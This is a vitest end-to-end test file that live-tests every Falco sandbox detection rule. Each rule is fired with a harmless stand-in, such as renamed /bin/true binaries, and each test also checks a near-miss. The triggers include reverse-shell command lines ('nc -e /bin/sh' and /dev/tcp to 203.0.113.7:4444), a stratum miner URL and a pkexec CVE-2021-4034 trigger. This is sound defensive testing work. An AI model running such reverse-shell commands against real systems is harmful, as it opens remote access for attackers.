/**
 * Every sandbox upstream rule (../shared/rules/falco-sandbox_rules.yaml, loaded unchanged after
 * falco_rules.yaml), live, as test/upstream_live.e2e.test.ts does for the stable rules: for each rule
 * the test performs the triggering action on this machine (host processes named as the rule wants —
 * copies of python3 or /bin/true in a temp dir —, private network namespaces, or Docker containers)
 * and asserts the rule fires exactly once for that action with the right output fields; then a
 * near-miss that must not fire, checked after a barrier. Alerts are filtered to the test's own pids /
 * container ids / command lines / marker paths (foreign activity is ignored).
 *
 * Rules disabled upstream (`enabled: false`) are re-enabled by the generated user file (the deprecated
 * standalone `enabled: true` item; their conditions untouched) and tested the same way.
 *
 * Rules not producible here are listed in CANNOT_PRODUCE with the reason (asserted where it can be),
 * and a test asserts covered ∪ CANNOT_PRODUCE = every rule of the file.
 *
 * Without Docker the container rules FAIL with the reason, unless FALCO_TS_NO_CONTAINERS=1.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { spawnSync } from "node:child_process";
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { parse } from "yaml";
import { REPO, SHARED } from "./helpers/agent.ts";
import { cid, inCtr, pidIs, startLiveKit, upstreamRules, type Fields, type LiveKit } from "./helpers/upstream_live.ts";

const FILE = "falco-sandbox_rules.yaml";
const RULES = parse(readFileSync(join(SHARED, "rules", FILE), "utf8")) as { rule?: string; enabled?: boolean; macro?: string; condition?: string }[];
/** Rules this machine cannot produce, with the reason. */
const CANNOT_PRODUCE: Record<string, string> = {
  "Detect outbound connections to common miner pool ports":
    "needs fd.sip.name to be a miner pool domain (libsinsp's DNS manager resolves the listed domains and names the server IP): no DNS or internet here, the domains do not resolve (asserted)",
  "Launch Disallowed Container":
    "its allowed_containers macro is `container.id exists`, true for every event: the rule can never fire until a user overrides the macro (asserted: our container starts do not fire it)",
};
const DISABLED = RULES.filter((x) => x.rule && x.enabled === false).map((x) => x.rule!);
const ENABLE = DISABLED.filter((r) => !(r in CANNOT_PRODUCE));

let k: LiveKit;
let P = ""; // privileged container
let U = ""; // unprivileged container
let S = ""; // container with a sensitive mount (-v /proc:/hostproc:ro)
let N = ""; // container run as nobody
let T = ""; // trusted image (sysdig/sysdig, in falco_sensitive_mount_images) with the same sensitive mount
const TRUSTED_TAG = `sysdig/sysdig:fts-uplive2-${process.pid}`;
const fdIs = (id: string, name: string) => cid(id, (x) => x["fd.name"] === name);

beforeAll(async () => {
  k = await startLiveKit({
    label: "upstream_sandbox_live.e2e",
    ...upstreamRules(FILE),
    pyCopies: ["fts_up_py", "bash", "python3", "java", "nginx"],
    trueCopies: ["sudo", "pkexec", "nc", "xmrig", "fts_xmrig", "whoami", "curl", "fts_up_true"],
    enable: ENABLE,
  });
  if (k.dockerUnavailable === "") {
    P = k.container("priv", ["--privileged"]);
    U = k.container("unpriv", []);
    S = k.container("sens", ["-v", "/proc:/hostproc:ro"]);
    N = k.container("nobody", ["--user", "65534"]);
    // A distinct image (a commit of U) whose only tag is sysdig/sysdig:...: as the container plugin,
    // container.image.repository is the first RepoTags entry of the image, so a second tag of
    // nginx:latest would still report "nginx".
    k.docker(["commit", U, TRUSTED_TAG]);
    T = k.container("trusted", ["-v", "/proc:/hostproc:ro"], undefined, TRUSTED_TAG);
  }
}, 300_000);

afterAll(async () => {
  const code = await k?.stop();
  if (k?.dockerUnavailable === "") k.docker(["rmi", TRUSTED_TAG], true);
  expect(code).toBe(0);
}, 60_000);

describe("upstream sandbox rules, live (falco-sandbox_rules.yaml)", () => {
  it("Unexpected inbound connection source / Interpreted procs inbound network activity: accept from 198.51.100.9 fires; from 10.1.2.3 (allowed) / by a non-interpreter does not", async () => {
    const r = await k.py("python3", ["accept", "203.0.113.7", "80", "198.51.100.9"]);
    const acc = (pid: number) => (x: Fields) => pidIs(pid)(x) && x["evt.type"] === "accept4";
    const f = await k.once("Unexpected inbound connection source", acc(r.spawnPid));
    expect(String(f["fd.name"])).toMatch(/^198\.51\.100\.9:\d+->203\.0\.113\.7:80$/);
    const g = await k.once("Interpreted procs inbound network activity", acc(r.spawnPid));
    expect([g["proc.name"], g["evt.type"]]).toEqual(["python3", "accept4"]);
    const n = await k.py("fts_up_py", ["accept", "203.0.113.7", "80", "10.1.2.3"]);
    await k.never("Unexpected inbound connection source", acc(n.spawnPid));
    // As in Falco: the `inbound` macro also takes `listen` on a tracked IPv4 socket (socket and
    // bind are in libsinsp's state set), so the listen of 203.0.113.7:80 itself fires once.
    const l = await k.once("Unexpected inbound connection source", (x: Fields) => pidIs(n.spawnPid)(x) && x["evt.type"] === "listen");
    expect(l["fd.type"]).toBe("ipv4");
    await k.never("Interpreted procs inbound network activity", pidIs(n.spawnPid));
  });

  it("Interpreted procs outbound network activity: python3 connecting to 203.0.113.7 fires; to 10.9.9.9 (RFC 1918) does not", async () => {
    const r = await k.py("python3", ["connect", "203.0.113.7", "80"]);
    const f = await k.once("Interpreted procs outbound network activity", pidIs(r.spawnPid));
    expect([f["proc.name"], f["evt.type"]]).toEqual(["python3", "connect"]);
    const n = await k.py("python3", ["connect", "10.9.9.9", "80"]);
    await k.never("Interpreted procs outbound network activity", pidIs(n.spawnPid));
  });

  it("Read Shell Configuration File: reading a .bashrc fires; bash reading it does not", async () => {
    writeFileSync(join(k.W, ".bashrc"), "# fts\n");
    const r = await k.py("fts_up_py", ["open", join(k.W, ".bashrc")]);
    const f = await k.once("Read Shell Configuration File", pidIs(r.spawnPid));
    expect([f["fd.name"], f["proc.name"], f["evt.type"]]).toEqual([join(k.W, ".bashrc"), "fts_up_py", "openat"]);
    const n = await k.py("bash", ["open", join(k.W, ".bashrc")]);
    await k.never("Read Shell Configuration File", pidIs(n.spawnPid));
  });

  it("Update Package Repository / Write below etc: a write below /etc/apt/sources.list.d (container) fires both; /tmp does not", async () => {
    if (!k.needDocker("Update Package Repository") || !k.needDocker("Write below etc")) return;
    k.dexec(U, "mkdir -p /etc/apt/sources.list.d /etc/fts_notrepo; echo x > /etc/apt/sources.list.d/fts.list; echo x > /etc/fts_notrepo/fts.list; echo x > /tmp/fts_notetc");
    const f = await k.once("Update Package Repository", fdIs(U, "/etc/apt/sources.list.d/fts.list"));
    expect([f["proc.name"], f["evt.type"]]).toEqual(["sh", "openat"]);
    await k.once("Write below etc", fdIs(U, "/etc/apt/sources.list.d/fts.list"));
    expect((await k.once("Write below etc", fdIs(U, "/etc/fts_notrepo/fts.list")))["proc.name"]).toBe("sh");
    await k.never("Update Package Repository", fdIs(U, "/etc/fts_notrepo/fts.list"));
    await k.never("Write below etc", fdIs(U, "/tmp/fts_notetc"));
  });

  it("Write below binary dir / Write below monitored dir / Write below root / Write below rpm database: writes there (container) fire; near paths do not", async () => {
    for (const r of ["Write below binary dir", "Write below monitored dir", "Write below root", "Write below rpm database"]) if (!k.needDocker(r)) return;
    k.dexec(U, "mkdir -p /boot /var/lib/rpm /root; echo x > /bin/fts_bin; echo x > /boot/fts_boot; echo x > /fts_root; echo x > /var/lib/rpm/fts_rpm; " +
      "echo x > /tmp/fts_notbin; echo x > /root/.bash_history; echo x > /var/lib/fts_notrpm");
    const cases: [string, string, string][] = [
      ["Write below binary dir", "/bin/fts_bin", "/tmp/fts_notbin"],
      ["Write below monitored dir", "/boot/fts_boot", "/tmp/fts_notbin"],
      ["Write below root", "/fts_root", "/root/.bash_history"],
      ["Write below rpm database", "/var/lib/rpm/fts_rpm", "/var/lib/fts_notrpm"],
    ];
    for (const [rule, hit, miss] of cases) {
      const f = await k.once(rule, fdIs(U, hit));
      expect([f["proc.name"], f["evt.type"]], rule).toEqual(["sh", "openat"]);
      await k.never(rule, fdIs(U, miss));
    }
  });

  it("Modify binary dirs / Mkdir binary dirs: rm and mkdir below /bin (container) fire; below /tmp do not", async () => {
    if (!k.needDocker("Modify binary dirs") || !k.needDocker("Mkdir binary dirs")) return;
    k.dexec(U, "echo x > /bin/fts_mod; echo x > /tmp/fts_mod");
    k.dexecArgv(U, ["rm", "/bin/fts_mod"]);
    k.dexecArgv(U, ["rm", "/tmp/fts_mod"]);
    k.dexecArgv(U, ["mkdir", "/bin/fts_dir"]);
    k.dexecArgv(U, ["mkdir", "/tmp/fts_dir"]);
    const f = await k.once("Modify binary dirs", inCtr(U, "rm /bin/fts_mod"));
    expect([f["proc.name"], f["evt.type"]]).toEqual(["rm", "unlink"]);
    const g = await k.once("Mkdir binary dirs", inCtr(U, "mkdir /bin/fts_dir"));
    expect([g["proc.name"], g["evt.arg.path"]]).toEqual(["mkdir", "/bin/fts_dir"]);
    await k.never("Modify binary dirs", inCtr(U, "rm /tmp/fts_mod"));
    await k.never("Mkdir binary dirs", inCtr(U, "mkdir /tmp/fts_dir"));
  });

  it("Launch Sensitive Mount Container: a container with -v /proc:/hostproc fires once; the same from a trusted image (sysdig/sysdig) does not", async () => {
    if (!k.needDocker("Launch Sensitive Mount Container")) return;
    const f = await k.once("Launch Sensitive Mount Container", inCtr(S, "sleep 1000"));
    expect([f["proc.name"], f["evt.type"]]).toEqual(["sleep", "execve"]);
    expect(String(f["container.mounts"])).toContain("/proc:/hostproc:ro:false");
    await k.never("Launch Sensitive Mount Container", (x) => x["container.id"] === T);
    // The trusted container did start (and was seen): Container Run as Root User fired for it.
    expect((await k.once("Container Run as Root User", inCtr(T, "sleep 1000")))["container.image.repository"]).toBe("sysdig/sysdig");
  });

  it("Launch Sensitive Mount Container, Falco semantics: a container with no sensitive mount fires too (a missing container.mount.dest[...] has no value, so `not ... in (\"<NA>\",\"N/A\")` is true)", async () => {
    if (!k.needDocker("Launch Sensitive Mount Container")) return;
    // libsinsp: a field with no value makes its comparison false (sinsp_filter_check::compare_nocache),
    // and the container plugin sets no value when no mount matches; `not` of false is true.
    const f = await k.once("Launch Sensitive Mount Container", inCtr(U, "sleep 1000"));
    expect(String(f["container.mounts"] ?? "")).not.toContain("/proc");
  });

  it("Launch Disallowed Container: not producible (allowed_containers is `container.id exists`); our container starts do not fire it", async () => {
    expect(RULES.find((x) => x.macro === "allowed_containers")?.condition?.trim()).toBe("(container.id exists)");
    if (k.dockerUnavailable !== "") return;
    await k.never("Launch Disallowed Container", (x) => [P, U, S, N].includes(String(x["container.id"])));
  });

  it("Unexpected K8s NodePort Connection: a connect to port 30080 in a container fires; to 29999 does not", async () => {
    if (!k.needDocker("Unexpected K8s NodePort Connection")) return;
    k.dexecArgv(P, ["ip", "addr", "add", "203.0.113.7/32", "dev", "lo"]);
    for (const port of ["30080", "29999"]) {
      k.dexecArgv(P, ["nc", "-l", "-p", port], true);
      await new Promise((r) => setTimeout(r, 400));
      k.dexecArgv(P, ["nc", "-w", "1", "203.0.113.7", port]);
    }
    const f = await k.once("Unexpected K8s NodePort Connection", inCtr(P, "nc -w 1 203.0.113.7 30080"));
    // 203.0.113.7 is not the container's IP, so the server side counts as local (fd.lport).
    expect([f["proc.name"], f["evt.type"], f["fd.lport"]]).toEqual(["nc", "connect", 30080]);
    await k.never("Unexpected K8s NodePort Connection", inCtr(P, "nc -w 1 203.0.113.7 29999"));
  });

  it("Create Hidden Files or Directories: mkdir of .fts_hidden fires; of fts_visible does not", async () => {
    const r = await k.py("fts_up_py", ["mkdir", join(k.W, ".fts_hidden")]);
    const f = await k.once("Create Hidden Files or Directories", pidIs(r.spawnPid));
    expect([f["proc.name"], f["evt.type"], f["proc.cmdline"]]).toEqual(["fts_up_py", "mkdir", `fts_up_py ${join(REPO, "test/fixtures/live/upstream_actions.py")} mkdir ${join(k.W, ".fts_hidden")}`]);
    const n = await k.py("fts_up_py", ["mkdir", join(k.W, "fts_visible")]);
    await k.never("Create Hidden Files or Directories", pidIs(n.spawnPid));
  });

  it("Detect crypto miners using the Stratum protocol: a stratum+tcp:// command line fires; tcp:// does not", async () => {
    const r = k.run(join(k.W, "fts_up_true"), ["-o", "stratum+tcp://203.0.113.7:3333"]);
    const f = await k.once("Detect crypto miners using the Stratum protocol", pidIs(r.pid));
    expect([f["proc.name"], f["proc.cmdline"]]).toEqual(["fts_up_true", "fts_up_true -o stratum+tcp://203.0.113.7:3333"]);
    const n = k.run(join(k.W, "fts_up_true"), ["-o", "tcp://203.0.113.7:3333"]);
    await k.never("Detect crypto miners using the Stratum protocol", pidIs(n.pid));
  });

  it("Kubernetes Client Tool Launched in Container: kubectl fires; fts_kubectl does not", async () => {
    if (!k.needDocker("Kubernetes Client Tool Launched in Container")) return;
    k.busyboxAs(U, "kubectl", "fts");
    k.busyboxAs(U, "fts_kubectl", "fts");
    const f = await k.once("Kubernetes Client Tool Launched in Container", inCtr(U, "kubectl fts"));
    expect([f["proc.name"], f["evt.type"]]).toEqual(["kubectl", "execve"]);
    await k.never("Kubernetes Client Tool Launched in Container", inCtr(U, "fts_kubectl fts"));
  });

  it("Container Drift Detected (chmod): chmod +x in a container fires; chmod 644 does not", async () => {
    if (!k.needDocker("Container Drift Detected (chmod)")) return;
    k.dexec(U, "echo x > /tmp/fts_drift");
    k.dexecArgv(U, ["chmod", "+x", "/tmp/fts_drift"]);
    const f = await k.once("Container Drift Detected (chmod)", inCtr(U, "chmod +x /tmp/fts_drift"));
    expect([f["proc.name"], f["evt.type"], f["evt.arg.filename"]]).toEqual(["chmod", "chmod", "/tmp/fts_drift"]);
    expect(String(f["evt.arg.mode"])).toContain("S_IXUSR");
    k.dexecArgv(U, ["chmod", "644", "/tmp/fts_drift"]);
    await k.never("Container Drift Detected (chmod)", inCtr(U, "chmod 644 /tmp/fts_drift"));
  });

  it("Container Drift Detected (open+create): cp creating an executable in a container fires; creating a non-executable does not", async () => {
    if (!k.needDocker("Container Drift Detected (open+create)")) return;
    k.dexecArgv(U, ["cp", "/bin/busybox", "/tmp/fts_drift_exe"]);
    const f = await k.once("Container Drift Detected (open+create)", inCtr(U, "cp /bin/busybox /tmp/fts_drift_exe"));
    expect([f["proc.name"], f["evt.type"], f["evt.arg.name"]]).toEqual(["cp", "openat", "/tmp/fts_drift_exe"]);
    k.dexecArgv(U, ["cp", "/etc/passwd", "/tmp/fts_drift_noexe"]);
    await k.never("Container Drift Detected (open+create)", inCtr(U, "cp /etc/passwd /tmp/fts_drift_noexe"));
  });

  it("Container Run as Root User: a container started as root fires; one started as nobody does not", async () => {
    if (!k.needDocker("Container Run as Root User")) return;
    const f = await k.once("Container Run as Root User", inCtr(U, "sleep 1000"));
    expect([f["proc.name"], f["user.uid"]]).toEqual(["sleep", 0]);
    await k.never("Container Run as Root User", (x) => x["container.id"] === N);
  });

  it("Sudo Potential Privilege Escalation: sudo -s with an argument ending in a backslash fires; without it does not", async () => {
    const r = k.run(join(k.W, "sudo"), ["-s", "fts\\"]);
    const f = await k.once("Sudo Potential Privilege Escalation", pidIs(r.pid));
    expect([f["proc.name"], f["proc.cmdline"]]).toEqual(["sudo", "sudo -s fts\\"]);
    const n = k.run(join(k.W, "sudo"), ["-s", "fts"]);
    await k.never("Sudo Potential Privilege Escalation", pidIs(n.pid));
  });

  it("Unprivileged Delegation of Page Faults Handling to a Userspace Process: userfaultfd as nobody fires; as root does not", async () => {
    const r = await k.py("fts_up_py", ["userfaultfd", "65534"]);
    const f = await k.once("Unprivileged Delegation of Page Faults Handling to a Userspace Process", pidIs(r.child!));
    expect([f["proc.name"], f["evt.type"], f["user.uid"]]).toEqual(["fts_up_py", "userfaultfd", 65534]);
    const n = await k.py("fts_up_py", ["userfaultfd", "0"]);
    await k.never("Unprivileged Delegation of Page Faults Handling to a Userspace Process", pidIs(n.child!));
  });

  it("Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034): pkexec with no arguments fires; with --version does not", async () => {
    const r = k.run(join(k.W, "pkexec"), []);
    const f = await k.once("Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)", pidIs(r.pid));
    expect([f["proc.name"], f["evt.type"]]).toEqual(["pkexec", "execve"]);
    const n = k.run(join(k.W, "pkexec"), ["--version"]);
    await k.never("Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)", pidIs(n.pid));
  });

  it("Java Process Class File Download: java receiving CAFEBABE over TCP fires; other bytes do not", async () => {
    const r = await k.py("java", ["recv", "203.0.113.7", "8080", "cafebabe00000034"]);
    expect(r.n).toBe(8);
    const f = await k.once("Java Process Class File Download", pidIs(r.spawnPid));
    expect([f["proc.name"], f["evt.type"]]).toEqual(["java", "recvfrom"]);
    const n = await k.py("java", ["recv", "203.0.113.7", "8080", "deadbeef00000034"]);
    await k.never("Java Process Class File Download", pidIs(n.spawnPid));
  });

  it("Modify Container Entrypoint: opening /proc/self/fd/2 for writing in a container fires; a write to /tmp does not", async () => {
    if (!k.needDocker("Modify Container Entrypoint")) return;
    k.dexec(U, "echo x > /proc/self/fd/2; echo x > /tmp/fts_notentry");
    const f = await k.once("Modify Container Entrypoint", fdIs(U, "/proc/self/fd/2"));
    expect([f["proc.name"], f["evt.type"]]).toEqual(["sh", "openat"]);
    await k.never("Modify Container Entrypoint", fdIs(U, "/tmp/fts_notentry"));
  });

  it("Decoding Payload in Container: base64 -d fires; base64 (encode) does not", async () => {
    if (!k.needDocker("Decoding Payload in Container")) return;
    k.dexec(U, "echo eA== > /tmp/fts_b64");
    k.dexecArgv(U, ["base64", "-d", "/tmp/fts_b64"]);
    const f = await k.once("Decoding Payload in Container", inCtr(U, "base64 -d /tmp/fts_b64"));
    expect([f["proc.name"], f["evt.type"]]).toEqual(["base64", "execve"]);
    k.dexecArgv(U, ["base64", "/tmp/fts_b64"]);
    await k.never("Decoding Payload in Container", inCtr(U, "base64 /tmp/fts_b64"));
  });

  it("Basic Interactive Reconnaissance: whoami on a terminal as group leader fires; without a terminal does not", async () => {
    const r = await k.py("fts_up_py", ["tty", join(k.W, "whoami"), "whoami", "fts_tty"]);
    const f = await k.once("Basic Interactive Reconnaissance", pidIs(r.child!));
    expect([f["proc.name"], f["evt.type"]]).toEqual(["whoami", "execve"]);
    expect(Number(f["proc.tty"])).toBeGreaterThan(0);
    const n = await k.py("fts_up_py", ["notty", join(k.W, "whoami"), "whoami", "fts_notty"]);
    await k.never("Basic Interactive Reconnaissance", pidIs(n.child!));
  });

  it("Netcat/Socat Remote Code Execution on Host: nc -e on the host fires; nc -z does not", async () => {
    const r = k.run(join(k.W, "nc"), ["-e", "/bin/sh", "203.0.113.7", "4444"]);
    const f = await k.once("Netcat/Socat Remote Code Execution on Host", pidIs(r.pid));
    expect([f["proc.name"], f["proc.cmdline"]]).toEqual(["nc", "nc -e /bin/sh 203.0.113.7 4444"]);
    const n = k.run(join(k.W, "nc"), ["-z", "203.0.113.7", "4444"]);
    await k.never("Netcat/Socat Remote Code Execution on Host", pidIs(n.pid));
  });

  it("Network Tool Executed During NPM Package Install: nc under a script named npm (container) fires; under fts_nonpm does not", async () => {
    if (!k.needDocker("Network Tool Executed During NPM Package Install")) return;
    k.dexec(U, "ln -sf /bin/busybox /tmp/nc; printf '#!/bin/sh\\n/tmp/nc fts_npm\\ntrue\\n' > /tmp/npm; printf '#!/bin/sh\\n/tmp/nc fts_nonpm\\ntrue\\n' > /tmp/fts_nonpm; " +
      "chmod +x /tmp/npm /tmp/fts_nonpm; /tmp/npm; /tmp/fts_nonpm; true");
    const f = await k.once("Network Tool Executed During NPM Package Install", inCtr(U, "nc fts_npm"));
    expect([f["proc.name"], f["proc.pname"], f["evt.type"]]).toEqual(["nc", "npm", "execve"]);
    await k.never("Network Tool Executed During NPM Package Install", inCtr(U, "nc fts_nonpm"));
  });

  it("Known Cryptominer Process Executed: xmrig fires; fts_xmrig does not", async () => {
    const r = k.run(join(k.W, "xmrig"), ["fts"]);
    const f = await k.once("Known Cryptominer Process Executed", pidIs(r.pid));
    expect([f["proc.name"], f["evt.type"]]).toEqual(["xmrig", "execve"]);
    const n = k.run(join(k.W, "fts_xmrig"), ["fts"]);
    await k.never("Known Cryptominer Process Executed", pidIs(n.pid));
  });

  it("Web Server Spawned Shell / Reverse Shell from Web Server: nginx spawning sh fires the first; with /dev/tcp/ also the second; a healthcheck shell neither", async () => {
    const r = await k.py("nginx", ["spawn", "/bin/sh", "sh", "-c", "true fts_wss"]);
    const f = await k.once("Web Server Spawned Shell", pidIs(r.child!));
    expect([f["proc.name"], f["proc.pname"], f["proc.cmdline"]]).toEqual(["sh", "nginx", "sh -c true fts_wss"]);
    await k.never("Reverse Shell from Web Server", pidIs(r.child!));
    const s = await k.py("nginx", ["spawn", "/bin/sh", "sh", "-c", "true /dev/tcp/203.0.113.7/4444"]);
    const g = await k.once("Reverse Shell from Web Server", pidIs(s.child!));
    expect([g["proc.name"], g["proc.pname"]]).toEqual(["sh", "nginx"]);
    const n = await k.py("nginx", ["spawn", "/bin/sh", "sh", "-c", "true healthcheck"]);
    await k.never("Web Server Spawned Shell", pidIs(n.child!));
  });

  it("Web Server Spawned Suspicious Child Process: nginx spawning curl fires; curl with 'status' does not", async () => {
    const r = await k.py("nginx", ["spawn", join(k.W, "curl"), "curl", "fts_child"]);
    const f = await k.once("Web Server Spawned Suspicious Child Process", pidIs(r.child!));
    expect([f["proc.name"], f["proc.pname"]]).toEqual(["curl", "nginx"]);
    const n = await k.py("nginx", ["spawn", join(k.W, "curl"), "curl", "status"]);
    await k.never("Web Server Spawned Suspicious Child Process", pidIs(n.child!));
  });

  it("Privileged Container Device Access / Container Access to Host Sensitive Paths: /dev/sdz_fts and /host/ writes (container) fire; near paths do not", async () => {
    if (!k.needDocker("Privileged Container Device Access") || !k.needDocker("Container Access to Host Sensitive Paths")) return;
    k.dexec(U, "mkdir -p /host; echo x > /dev/sdz_fts; echo x > /host/fts_h; echo x > /dev/fts_nodev; echo x > /hostx_fts");
    const f = await k.once("Privileged Container Device Access", fdIs(U, "/dev/sdz_fts"));
    expect([f["proc.name"], f["evt.type"]]).toEqual(["sh", "openat"]);
    const g = await k.once("Container Access to Host Sensitive Paths", fdIs(U, "/host/fts_h"));
    expect([g["proc.name"], g["evt.type"]]).toEqual(["sh", "openat"]);
    await k.never("Privileged Container Device Access", fdIs(U, "/dev/fts_nodev"));
    await k.never("Container Access to Host Sensitive Paths", fdIs(U, "/hostx_fts"));
  });

  it("Detect outbound connections to common miner pool ports: not producible (the miner pool domains do not resolve here)", () => {
    expect(spawnSync("getent", ["hosts", "pool.minexmr.com"]).status).not.toBe(0);
  });

  it("covers every rule of falco-sandbox_rules.yaml (live or CANNOT_PRODUCE with a reason)", () => {
    for (const r of Object.keys(CANNOT_PRODUCE)) {
      expect(k.ruleNames).toContain(r);
      expect(k.covered.has(r), `${r} is both covered and in CANNOT_PRODUCE`).toBe(false);
      console.log(`[upstream_sandbox_live.e2e] not producible: "${r}": ${CANNOT_PRODUCE[r]}`);
    }
    expect(k.ruleNames.filter((r) => !k.covered.has(r) && !(r in CANNOT_PRODUCE))).toEqual([]);
    expect(k.ruleNames.length).toBe(37);
    console.log(`[upstream_sandbox_live.e2e] disabled upstream, enabled by the test: ${ENABLE.join(", ")}`);
  });
});
